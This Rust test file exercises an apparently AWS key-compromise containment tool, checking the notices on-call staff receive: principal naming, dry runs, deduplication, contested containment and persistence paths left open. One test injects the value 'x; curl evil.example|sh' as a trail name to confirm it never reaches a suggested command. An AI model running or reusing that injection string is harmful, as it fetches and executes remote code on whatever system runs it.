//! What on-call sees: every notice names what was acted on, one outcome for a deleted key, open
//! doors lead, dry runs say only what they would do, duplicates stay quiet, a holder still
//! trying is told in a short notice.

use chrono::{TimeDelta, Utc};
use killswitch::ports::KeyStatus;
use killswitch::report::{Notification, Status};
use serde_json::{Value, json};

use crate::support::*;

fn manual(fields: Value) -> Value {
    let mut m = json!({
        "access_key_id": FIXTURE_KEY,
        "reason": "found in a public repo",
        "requested_by": "oncall@example.com",
    });
    for (k, v) in fields.as_object().unwrap() {
        m[k] = v.clone();
    }
    m
}

/// The key's holder, with another way in, reactivates the key and deletes the deny.
fn undo_alices_containment(cloud: &FakeCloud) {
    let mut s = cloud.state.lock().unwrap();
    s.keys
        .insert(("alice".into(), FIXTURE_KEY.into()), KeyStatus::Active);
    s.policies
        .remove(&("user/alice".into(), "KillSwitchDenyAll".into()));
}

#[tokio::test]
async fn every_notice_names_iams_owner_and_the_account_acted_in() {
    // No user named: IAM tells; a wrong user named: IAM's answer wins, and so does the notice.
    for fields in [json!({}), json!({"user_name": "mallory"})] {
        let a = app(FakeCloud::with_user("alice", FIXTURE_KEY));
        let response = run(&a, manual(fields.clone())).await;
        let r = &response.reports[0];
        assert_eq!(r.status, Status::Contained, "{fields}");
        assert_eq!(r.principal, "IAM user alice", "{fields}");
        assert_eq!(r.account.as_deref(), Some(ACCOUNT), "{fields}");
        let json = serde_json::to_value(r).unwrap();
        assert_eq!(json["principal"], "IAM user alice");
        assert_eq!(json["account"], ACCOUNT);
        for (subject, body) in a.cloud.published() {
            assert!(subject.contains("(IAM user alice)"), "{subject}");
            assert!(!subject.contains("mallory") && !subject.contains("unresolved"));
            assert!(body.contains("Principal:  IAM user alice"), "{body}");
            assert!(body.contains(&format!("Account:    {ACCOUNT}")), "{body}");
            assert!(!body.contains("(from the key)"), "{body}");
        }
        assert_eq!(
            a.cloud.key_state("alice", FIXTURE_KEY),
            Some(KeyStatus::Inactive)
        );
    }
}

#[tokio::test]
async fn a_key_iam_does_not_know_is_key_not_found_from_every_trigger_and_reported_once() {
    for fixture in [
        "guardduty-iam-user-finding.json",
        "health-exposed-new-shape.json",
        "manual-request.json",
    ] {
        // The user (and its key) was deleted since the finding.
        let a = lambda(FakeCloud::default());
        let response = run(&a, event(fixture)).await;
        let r = &response.reports[0];
        assert_eq!(r.status, Status::KeyNotFound, "{fixture}: {r:?}");
        assert!(response.error().is_none(), "{fixture}: no retry, exit 0");
        assert!(
            a.cloud.writes().is_empty(),
            "{fixture}: {:?}",
            a.cloud.writes()
        );
        assert!(r.undo.is_empty(), "{fixture}");
        let published = a.cloud.published();
        assert_eq!(published.len(), 1, "{fixture}: {published:?}");
        assert!(
            published[0].0.contains("KEY NOT FOUND"),
            "{}",
            published[0].0
        );
        assert!(!published[0].1.contains("CONTESTED"), "{}", published[0].1);
        // GuardDuty re-emits every 6 hours, Lambda retries: one notice per trigger.
        run(&a, event(fixture)).await;
        assert_eq!(a.cloud.published().len(), 1, "{fixture}");
    }
}

#[tokio::test]
async fn dry_run_says_only_what_it_would_do_and_needs_no_topic() {
    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
    cloud.state.lock().unwrap().no_topic = true;
    let a = app(cloud);
    let response = run(&a, event("manual-request-dry-run.json")).await;
    let r = &response.reports[0];
    assert_eq!(r.status, Status::DryRun);
    assert!(r.undo.is_empty(), "{:?}", r.undo);
    assert!(
        r.next_steps
            .iter()
            .all(|n| !n.contains("stays Inactive") && !n.contains("blocks ALL")),
        "{:?}",
        r.next_steps
    );
    assert!(
        r.next_steps[0].starts_with("Nothing was changed"),
        "{:?}",
        r.next_steps
    );
    assert!(
        matches!(r.notification, Notification::NotPublished { .. }),
        "{:?}",
        r.notification
    );
    assert!(a.cloud.published().is_empty());
    assert!(!r.message().contains("To undo"), "{}", r.message());
    assert_eq!(
        a.cloud.key_state("alice", FIXTURE_KEY),
        Some(KeyStatus::Active)
    );
}

#[tokio::test]
async fn a_reemitted_finding_is_quiet_unless_its_count_grew() {
    let a = lambda(FakeCloud::with_user("alice", FIXTURE_KEY));
    let finding = event("guardduty-iam-user-finding.json");
    deliver(&a, finding.clone()).await;
    assert_eq!(a.cloud.published().len(), 1, "the short notice");
    // A plain re-emit (same count) and a retry: nothing.
    deliver(&a, finding.clone()).await;
    deliver(&a, finding.clone()).await;
    assert_eq!(a.cloud.published().len(), 1);
    // The holder is still trying: the count grew from 3 to 7.
    let mut grown = finding.clone();
    grown["detail"]["service"]["count"] = json!(7);
    grown["detail"]["updatedAt"] = json!("2026-11-23T09:10:02.114Z");
    deliver(&a, grown.clone()).await;
    let published = a.cloud.published();
    assert_eq!(published.len(), 2, "{published:?}");
    let (subject, body) = &published[1];
    assert!(
        subject.starts_with("[killswitch] STILL TRYING (count 3 -> 7), still contained: AKIAIOSFODNN7EXAMPLE acct 123456789012"),
        "{subject}"
    );
    assert!(body.contains("not a new incident"), "{body}");
    assert!(
        !body.contains("To undo"),
        "short, not a second full report: {body}"
    );
    // Once per count.
    deliver(&a, grown).await;
    assert_eq!(a.cloud.published().len(), 2);
}

#[tokio::test]
async fn the_rejected_subject_keeps_the_account_and_a_sample_reads_as_one() {
    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
    cloud
        .state
        .lock()
        .unwrap()
        .key_account
        .insert(FIXTURE_KEY.into(), "999999999999".into());
    let a = app(cloud);
    let response = run(&a, manual(json!({}))).await;
    assert_eq!(response.reports[0].status, Status::Rejected);
    let subject = a.cloud.published().pop().unwrap().0;
    assert!(subject.starts_with("[killswitch] REJECTED"), "{subject}");
    assert!(subject.ends_with("acct 999999999999"), "{subject}");

    let a = app(FakeCloud::default());
    run(&a, event("guardduty-sample-finding.json")).await;
    let subject = a.cloud.published().pop().unwrap().0;
    assert!(
        subject.starts_with("[killswitch] GuardDuty SAMPLE, ignored: ")
            && subject.ends_with("acct 123456789012")
            && !subject.contains("placeholder"),
        "{subject}"
    );
}

#[tokio::test]
async fn quiet_regions_are_a_count_and_the_lag_warning_gives_way_to_the_second_search() {
    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
    cloud.state.lock().unwrap().enabled_regions = Some(
        [
            "us-east-1",
            "eu-west-1",
            "eu-central-1",
            "ap-south-1",
            "sa-east-1",
        ]
        .map(String::from)
        .to_vec(),
    );
    let mut call = api_call("ListBuckets", Utc::now() - TimeDelta::minutes(5), None);
    call.event_source = "s3.amazonaws.com".into();
    call.user_agent = Some(
        "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.debian.12 prompt/off command/s3.ls"
            .into(),
    );
    cloud.add_events("us-east-1", vec![call]);
    let mut config = deployed_config();
    config.follow_up_queue_url = None;
    let a = killswitch::handler::App {
        config,
        ..app(cloud)
    };
    let response = run(&a, event("guardduty-iam-user-finding.json")).await;
    let body = response.reports[0].message();
    assert!(
        body.contains("4 other Region(s): no events, read to the end"),
        "{body}"
    );
    for region in ["eu-central-1", "ap-south-1", "sa-east-1"] {
        assert!(!body.contains(region), "{region} listed: {body}");
    }
    assert!(
        body.contains("\"aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0\""),
        "{body}"
    );
    assert!(!body.contains("exe/x86_64"), "{body}");
    // Not two lists of the same calls.
    assert_eq!(body.matches("s3:ListBuckets").count(), 1, "{body}");
    if response.reports[0]
        .sweep
        .as_ref()
        .is_some_and(|s| s.scheduled)
    {
        assert!(!body.contains("Event history lags"), "{body}");
        assert!(!body.contains("can lag a few minutes"), "{body}");
    }
}

#[tokio::test]
async fn names_the_attacker_chose_never_reach_a_command_line() {
    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
    let mut stop = api_call("StopLogging", Utc::now() - TimeDelta::minutes(5), None);
    stop.event_source = "cloudtrail.amazonaws.com".into();
    stop.request_parameters = Some(json!({"name": "x; curl evil.example|sh"}));
    cloud.add_events("us-east-1", vec![stop]);
    let a = app(cloud);
    let response = run(&a, event("guardduty-iam-user-finding.json")).await;
    let r = &response.reports[0];
    assert_eq!(r.open.len(), 1, "{:?}", r.open);
    assert_eq!(
        r.open[0].commands,
        vec!["aws cloudtrail start-logging --name TRAIL-NAME --region us-east-1".to_string()]
    );
    let (subject, body) = a.cloud.published().pop().unwrap();
    assert!(
        subject.starts_with("[killswitch] CONTAINED - CloudTrail stopped: "),
        "{subject}"
    );
    assert!(
        !body
            .lines()
            .any(|l| l.trim_start().starts_with("aws ") && l.contains("curl")),
        "{body}"
    );
    assert!(body.contains("as logged:"), "{body}");
}

#[tokio::test]
async fn a_refused_key_is_named_as_iam_knows_it() {
    let mut a = app(FakeCloud::with_user("alice", FIXTURE_KEY));
    a.config.protected = vec!["alice".into()];
    let response = run(&a, manual(json!({}))).await;
    let r = &response.reports[0];
    assert_eq!(r.status, Status::Refused);
    assert_eq!(r.principal, "IAM user alice");
    assert!(a.cloud.writes().is_empty());
    let subject = a.cloud.published().pop().unwrap().0;
    assert!(subject.contains("(IAM user alice)"), "{subject}");
}

#[tokio::test]
async fn a_finding_naming_a_key_iam_does_not_know_denies_nobody() {
    // Anyone who may invoke the function can send a payload shaped like a GuardDuty finding
    // with a made-up key ID and an admin's name: a key IAM does not know proves nothing about
    // whose it was, so the named user is not denied (and the notice says how to, if it was).
    let cloud = FakeCloud::default();
    cloud.add_user_key("alice", "AKIAI44QH8DHBEXAMPLE", KeyStatus::Active);
    let a = app(cloud);
    let response = run(&a, event("guardduty-iam-user-finding.json")).await;
    let r = &response.reports[0];
    assert_eq!(r.status, Status::KeyNotFound, "{r:?}");
    assert!(a.cloud.writes().is_empty(), "{:?}", a.cloud.writes());
    assert!(a.cloud.policy("user/alice", "KillSwitchDenyAll").is_none());
    assert!(
        r.steps.iter().any(|s| s
            .detail
            .contains("user alice exists, but a payload naming a key IAM does not know is not proof the key was theirs")),
        "{:?}",
        r.steps
    );
}

fn succeeded(
    name: &str,
    source: &str,
    minutes_ago: i64,
    params: Value,
) -> killswitch::ports::ApiCall {
    let mut c = api_call(name, Utc::now() - TimeDelta::minutes(minutes_ago), None);
    c.event_source = source.into();
    c.request_parameters = Some(params);
    c
}

#[tokio::test]
async fn a_flood_of_one_kind_hides_no_other_door() {
    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
    let mut calls = vec![succeeded(
        "AttachRolePolicy",
        "iam.amazonaws.com",
        30,
        json!({"roleName": "escape-hatch", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
    )];
    // Newer, more of the same name: they fill the capped notable lists.
    for i in 0..8 {
        calls.push(succeeded(
            "AttachUserPolicy",
            "iam.amazonaws.com",
            20 - i,
            json!({"userName": format!("decoy{i}"), "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}),
        ));
    }
    // 40 sessions of one role, and a long group name cut in the details.
    for i in 0..40 {
        let mut c = succeeded(
            "AssumeRole",
            "sts.amazonaws.com",
            10,
            json!({"roleArn": "arn:aws:iam::123456789012:role/pivot", "roleSessionName": format!("s{i}")}),
        );
        c.response_elements =
            Some(json!({"credentials": {"accessKeyId": format!("ASIAFLOOD{i:011}")}}));
        calls.push(c);
    }
    let long_group = format!("{}X", "P".repeat(127));
    calls.push(succeeded(
        "AttachGroupPolicy",
        "iam.amazonaws.com",
        5,
        json!({"groupName": long_group, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
    ));
    cloud.add_events("us-east-1", calls);
    let a = app(cloud);
    let response = run(&a, event("guardduty-iam-user-finding.json")).await;
    let r = &response.reports[0];
    let body = r.message();
    assert!(
        r.open.iter().any(|i| i
            .commands
            .iter()
            .any(|c| c.contains("list-attached-role-policies --role-name escape-hatch"))),
        "{body}"
    );
    assert!(body.contains("--role-name escape-hatch"), "{body}");
    // The 40 sessions are one role-wide command, not 40 lines.
    let sessions: Vec<_> = r
        .open
        .iter()
        .filter(|i| i.kind == killswitch::report::OpenKind::RoleSession)
        .collect();
    assert_eq!(sessions.len(), 1, "{sessions:?}");
    assert!(
        sessions[0].what.starts_with("40 sessions of role"),
        "{:?}",
        sessions[0]
    );
    assert!(sessions[0].commands[0].contains("--role-name pivot --account-id 123456789012"));
    // Role-wide through the setting: a manual request alone would be narrowed to one session.
    assert!(
        sessions[0].commands[0]
            .starts_with("KILLSWITCH_ROLE_WIDE_REVOCATION=pivot killswitch respond"),
        "{:?}",
        sessions[0]
    );
    // A name cut short is never put in a command (a decoy could carry the cut prefix).
    assert!(
        !body.contains(&format!("--group-name {}", "P".repeat(120))),
        "{body}"
    );
    assert!(body.len() < 60_000, "{}", body.len());
}

#[tokio::test]
async fn containment_found_undone_at_a_redelivery_is_contested_and_told() {
    let a = lambda(FakeCloud::with_user("alice", FIXTURE_KEY));
    let finding = event("guardduty-iam-user-finding.json");
    deliver(&a, finding.clone()).await;
    assert_eq!(a.cloud.published().len(), 1);
    // The holder, with another way in, undoes it between two re-emits.
    undo_alices_containment(&a.cloud);
    deliver(&a, finding).await;
    let published = a.cloud.published();
    assert_eq!(published.len(), 2, "{published:?}");
    assert!(published[1].0.contains("CONTESTED"), "{}", published[1].0);
    assert_eq!(
        a.cloud.key_state("alice", FIXTURE_KEY),
        Some(KeyStatus::Inactive)
    );
}

#[tokio::test]
async fn a_dry_run_never_silences_the_real_runs_report() {
    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
    let mut config = deployed_config();
    config.follow_up_queue_url = None;
    let a = killswitch::handler::App {
        config,
        ..app(cloud)
    };
    run(&a, manual(json!({"dry_run": true, "request_id": "INC-7"}))).await;
    let dry = a.cloud.published().len();
    run(&a, manual(json!({"request_id": "INC-7"}))).await;
    let published = a.cloud.published();
    assert!(
        published[dry..]
            .iter()
            .any(|(s, _)| s.starts_with("[killswitch] CONTAINED: ")),
        "{published:?}"
    );
}

#[tokio::test]
async fn a_failed_containment_still_lists_what_is_open() {
    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
    cloud.fail("iam:PutUserPolicy", "AccessDenied");
    cloud.fail("iam:UpdateAccessKey", "AccessDenied");
    cloud.add_events(
        "us-east-1",
        vec![succeeded(
            "CreateUser",
            "iam.amazonaws.com",
            5,
            json!({"userName": "backdoor"}),
        )],
    );
    let a = app(cloud);
    let response = run(&a, event("guardduty-iam-user-finding.json")).await;
    let r = &response.reports[0];
    assert_eq!(r.status, Status::Failed);
    assert!(
        r.open
            .iter()
            .any(|i| i.what.contains("new IAM user backdoor")),
        "{:?}",
        r.open
    );
}

#[tokio::test]
async fn a_manual_request_cannot_turn_a_made_up_key_into_a_deny_on_someone() {
    // A user that exists, and a key ID IAM has never seen.
    let cloud = FakeCloud::with_user("oncall-admin", "AKIAI44QH8DHBEXAMPLE");
    let a = app(cloud);
    let response = run(&a, manual(json!({"user_name": "oncall-admin"}))).await;
    assert_eq!(response.reports[0].status, Status::KeyNotFound);
    assert!(a.cloud.writes().is_empty(), "{:?}", a.cloud.writes());
}

#[tokio::test]
async fn containment_undone_after_another_trigger_recorded_it_is_still_contested() {
    let a = lambda(FakeCloud::with_user("alice", FIXTURE_KEY));
    let finding = event("guardduty-iam-user-finding.json");
    deliver(&a, finding.clone()).await;
    // A manual request for the same key finds it contained and records itself last.
    deliver(&a, manual(json!({"request_id": "INC-9"}))).await;
    let before = a.cloud.published().len();
    undo_alices_containment(&a.cloud);
    deliver(&a, finding).await;
    let published = a.cloud.published();
    assert!(
        published[before..]
            .iter()
            .any(|(s, _)| s.contains("CONTESTED")),
        "{published:?}"
    );
}

#[tokio::test]
async fn a_thousand_doors_of_one_kind_do_not_evict_one_of_another() {
    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
    let mut stop = succeeded(
        "StopLogging",
        "cloudtrail.amazonaws.com",
        50,
        json!({"name": "org-trail"}),
    );
    stop.region = "us-east-1".into();
    let mut calls = vec![stop];
    for i in 0..1100 {
        let mut c = succeeded(
            "CreateBucket",
            "s3.amazonaws.com",
            10,
            json!({"bucketName": format!("flood-{i}")}),
        );
        c.event_id = Some(format!("flood-{i}"));
        c.time += TimeDelta::milliseconds(i);
        calls.push(c);
    }
    cloud.add_events("us-east-1", calls);
    let mut a = app(cloud);
    a.config.max_events_per_region = 5000;
    a.config.regions = vec!["us-east-1".into()];
    let response = run(&a, event("guardduty-iam-user-finding.json")).await;
    let r = &response.reports[0];
    assert!(
        r.open.iter().any(|i| i
            .commands
            .iter()
            .any(|c| c.contains("start-logging --name org-trail"))),
        "{:?}",
        r.open.iter().map(|i| &i.what).collect::<Vec<_>>()
    );
    assert!(
        r.subject().contains("CloudTrail stopped"),
        "{}",
        r.subject()
    );
}

/// The command line's shape with the incident table: identity learnt in the first wave, no queue.
fn cli_with_table(cloud: FakeCloud) -> killswitch::handler::App<FakeCloud> {
    let mut config = deployed_config();
    config.follow_up_queue_url = None;
    killswitch::handler::App {
        cloud,
        config,
        responder: None,
    }
}

#[tokio::test]
async fn a_second_respond_on_a_key_still_contained_is_already_contained_and_pages_nobody() {
    let a = cli_with_table(FakeCloud::with_user("alice", FIXTURE_KEY));
    let first = run(&a, manual(json!({}))).await;
    assert_eq!(first.reports[0].status, Status::Contained);
    let paged = a.cloud.published().len();
    let writes = a.cloud.writes().len();
    // The same command again (the verification delay is zero here: IAM's reads are trusted).
    let again = run(&a, manual(json!({}))).await;
    let r = &again.reports[0];
    assert_eq!(r.status, Status::AlreadyContained, "{:?}", r.steps);
    assert_eq!(
        a.cloud.published().len(),
        paged,
        "{:?}",
        &a.cloud.published()[paged..]
    );
    assert_eq!(a.cloud.writes().len(), writes, "{:?}", a.cloud.writes());
    assert!(
        !r.steps.iter().any(|s| s.detail.contains("set to Inactive")),
        "{:?}",
        r.steps
    );
    // Undone for real: the next run re-applies and pages CONTESTED.
    undo_alices_containment(&a.cloud);
    let contested = run(&a, manual(json!({}))).await;
    assert_eq!(contested.reports[0].status, Status::Contested);
    assert!(
        a.cloud.published()[paged..]
            .iter()
            .any(|(s, _)| s.contains("CONTESTED")),
        "{:?}",
        a.cloud.published()
    );
    assert_eq!(
        a.cloud.key_state("alice", FIXTURE_KEY),
        Some(KeyStatus::Inactive)
    );
}

#[tokio::test]
async fn a_key_of_another_account_says_once_what_to_do_next() {
    let cloud = FakeCloud::with_user("alice", FIXTURE_KEY);
    cloud
        .state
        .lock()
        .unwrap()
        .key_account
        .insert(FIXTURE_KEY.into(), "999999999999".into());
    let a = app(cloud);
    let response = run(&a, manual(json!({}))).await;
    let r = &response.reports[0];
    assert_eq!(r.status, Status::Rejected);
    assert!(
        r.next_steps
            .iter()
            .any(|s| s.contains("with credentials for account 999999999999")
                && s.contains("KILLSWITCH_MEMBER_ACCOUNTS")),
        "{:?}",
        r.next_steps
    );
    let body = r.message();
    assert!(
        body.matches("belongs to account 999999999999").count() <= 2,
        "{body}"
    );
    assert!(a.cloud.writes().is_empty());
}

#[tokio::test]
async fn a_command_line_key_not_found_leaves_the_page_to_the_deployed_function() {
    // One incident table for both: the operator's terminal, then the function.
    let cloud = FakeCloud::with_user("oncall-admin", "AKIAI44QH8DHBEXAMPLE");
    let mut terminal = cli_with_table(cloud.clone());
    terminal.config.page_key_not_found = false;
    let finding = event("guardduty-iam-user-finding.json");
    let quiet = run(&terminal, finding.clone()).await;
    assert_eq!(quiet.reports[0].status, Status::KeyNotFound);
    assert!(cloud.published().is_empty());
    let mut function = lambda(cloud.clone());
    function.config.follow_up_queue_url = None;
    run(&function, finding).await;
    assert!(
        cloud
            .published()
            .iter()
            .any(|(s, _)| s.contains("KEY NOT FOUND")),
        "{:?}",
        cloud.published()
    );
}
